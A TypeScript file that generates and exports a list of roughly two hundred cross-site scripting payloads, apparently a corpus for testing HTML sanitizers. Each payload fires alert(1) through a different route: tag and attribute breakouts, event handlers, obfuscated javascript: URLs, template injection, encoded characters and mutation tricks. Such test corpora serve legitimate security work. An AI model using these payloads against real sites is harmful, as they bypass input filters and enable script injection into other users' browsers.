/** Two hundred ways to have a page run a script: each says so by a dialog. No test here. */

const call = 'alert(1)'
const tags = [
  'img',
  'svg',
  'body',
  'input',
  'video',
  'audio',
  'details',
  'iframe',
  'object',
  'math',
]
const handlers = [
  'onerror',
  'onload',
  'ontoggle',
  'onfocus autofocus',
  'onloadstart',
  'onanimationend',
]
const breaks = ['', '"', "'", '">', "'>", '</textarea>', '</title>', '-->', ']]>', '</script>']
const links = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', '&#106;avascript:', 'data:text/html,']

export const scripts: readonly string[] = [
  ...breaks.flatMap((out) => [
    `${out}<script>${call}</script>`,
    `${out}<SCRIPT SRC=data:,${call}></SCRIPT>`,
    `${out}<img src=x onerror=${call}>`,
    `${out}<svg/onload=${call}>`,
    `${out}<svg><script>${call}</script></svg>`,
    `${out}<iframe srcdoc="<script>parent.${call}</script>">`,
  ]),
  ...tags.flatMap((tag) =>
    handlers.map((handler) => `<${tag} src=x ${handler.replace(' ', `=${call} `)}=${call}>`),
  ),
  ...links.flatMap((link) => [
    `<a href="${link}${call}">x</a>`,
    `<iframe src="${link}${call}"></iframe>`,
    `<form action="${link}${call}"><button>x</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${link}${call}">`,
    `<object data="${link}${call}"></object>`,
    `${link}${call}`,
  ]),
  ...[
    `{{${call}}}`,
    `\${${call}}`,
    `<%= ${call} %>`,
    `#{${call}}`,
    `{{constructor.constructor('${call}')()}}`,
  ],
  ...['\u0000', '\u2028', '\u00a0', '\u200b', '/', '\u000c', '%00', '&#0;'].map(
    (sign) => `<img${sign}src=x${sign}onerror=${call}>`,
  ),
  ...['&lt;', '&#60;', '&#x3c;', '\\u003c', '%3C', '\uff1c'].flatMap((sign) => [
    `${sign}script>${call}${sign}/script>`,
    `${sign}img src=x onerror=${call}>`,
  ]),
  ...breaks.map((out) => `${out} onmouseover=${call} style=animation:x `),
  ...breaks.map(
    (out) => `${out}<style>@import 'data:,x'</style><link rel=stylesheet href=data:,x>`,
  ),
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="http://127.0.0.1:9/"><script src=/x.js></script>',
  '<xmp><script>alert(1)</script></xmp><plaintext>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<img src=x:x onerror=&#97;lert(1)>',
  '<template><script>alert(1)</script></template><img src=x onerror=alert(1)//',
]
